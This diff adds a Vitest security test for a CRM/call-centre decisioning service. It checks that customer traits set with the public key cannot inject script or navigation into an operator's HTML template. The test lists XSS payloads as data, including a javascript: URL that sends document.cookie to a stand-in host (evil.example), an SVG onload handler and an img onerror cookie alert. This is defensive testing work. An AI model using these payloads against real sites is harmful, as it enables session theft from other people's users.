@@ -1,0 +1,83 @@
+/**
+ * HTML content fields over HTTP (docs/catalog.md, *Escaping by field*): a
+ * trait that anyone holding the public write key can set for any userId
+ * (events need no user token), rendered by an operator's call-centre script
+ * into a srcset, CSS, a refresh or through `| raw`, never reaches the
+ * agent's screen as a script or a navigation: that script is not served
+ * (the next action is); with harmless traits, it is.
+ */
+import { assert, describe, expect, it } from 'vitest';
+import { useLocalStack } from '../support/stack.ts';
+import { call, decide, identify, sendEvents, uniqueId, waitForProfile, type Decision, type StackAccess } from './fixtures/kairos.ts';
+
+let api: StackAccess;
+useLocalStack((_started, access) => {
+  api = access;
+});
+
+const SCRIPT =
+  '<meta http-equiv="refresh" content="600;url={{ nextCase }}">' +
+  '<img srcset="/avatars/default.png 1x, {{ avatar }} 2x">' +
+  '<div style="background:url({{ banner }})"><p>{{ note | raw }}</p></div>';
+
+const CATALOG = {
+  learning: { enabled: false, exploration: 0 },
+  policies: { consentRequired: [] },
+  actions: [
+    { id: 'crm-script', name: 'crm script', value: 10, content: { call_center: { script: SCRIPT } } },
+    { id: 'plain-script', name: 'plain script', content: { call_center: { script: '<p>Saluda al cliente.</p>' } } },
+  ],
+};
+
+const HARMLESS = { nextCase: '/cases/next', avatar: '/avatars/42.png', banner: '/banners/gold.png', note: 'Cliente desde 2019 &amp; VIP' };
+
+/** The call centre's back-end asks (server key) until decide serves this catalog to the customer. */
+async function scriptFor(userId: string): Promise<Decision> {
+  const deadline = Date.now() + 40_000;
+  for (;;) {
+    const answer = await decide(api, { userId, channel: 'call_center', limit: 1 });
+    const id = answer.actions[0]?.actionId ?? '';
+    if (['crm-script', 'plain-script'].includes(id) || Date.now() > deadline) return answer;
+    await new Promise((resolve) => setTimeout(resolve, 250));
+  }
+}
+
+describe('html content fields', () => {
+  it('a trait set by anyone with the public key does not become a script or a navigation in an agent\'s script: srcset, CSS url(, a refresh, | raw', async () => {
+    const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: CATALOG });
+    assert.equal(put.status, 200, put.text.slice(0, 500));
+
+    // Harmless traits: the operator's script is served, each value where the template puts it.
+    const customer = uniqueId('customer');
+    expect((await sendEvents(api, [identify({ userId: customer }, HARMLESS)])).accepted).toBe(1);
+    await waitForProfile(api, customer, (p) => (p.traits as { note?: unknown }).note === HARMLESS.note);
+    const served = await scriptFor(customer);
+    expect(served.actions.map((a) => ({ actionId: a.actionId, script: a.content.script }))).toEqual([
+      {
+        actionId: 'crm-script',
+        script:
+          '<meta http-equiv="refresh" content="600;url=/cases/next">' +
+          '<img srcset="/avatars/default.png 1x, /avatars/42.png 2x">' +
+          '<div style="background:url(/banners/gold.png)"><p>Cliente desde 2019 &amp; VIP</p></div>',
+      },
+    ]);
+
+    // The attacker: the public key only, no user token, one hostile trait per victim.
+    const attacks: Record<string, string> = {
+      nextCase: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
+      avatar: 'data:image/svg+xml,<svg onload=alert(1)>',
+      banner: 'javascript:alert(1)',
+      note: '<img src=x onerror=alert(document.cookie)>',
+    };
+    for (const [trait, value] of Object.entries(attacks)) {
+      const victim = uniqueId('victim');
+      expect((await sendEvents(api, [identify({ userId: victim }, { ...HARMLESS, [trait]: value })])).accepted).toBe(1);
+      await waitForProfile(api, victim, (p) => (p.traits as Record<string, unknown>)[trait] === value);
+      const attacked = await scriptFor(victim);
+      expect({ trait, served: attacked.actions.map((a) => ({ actionId: a.actionId, script: a.content.script })) }).toEqual({
+        trait,
+        served: [{ actionId: 'plain-script', script: '<p>Saluda al cliente.</p>' }],
+      });
+    }
+  });
+});
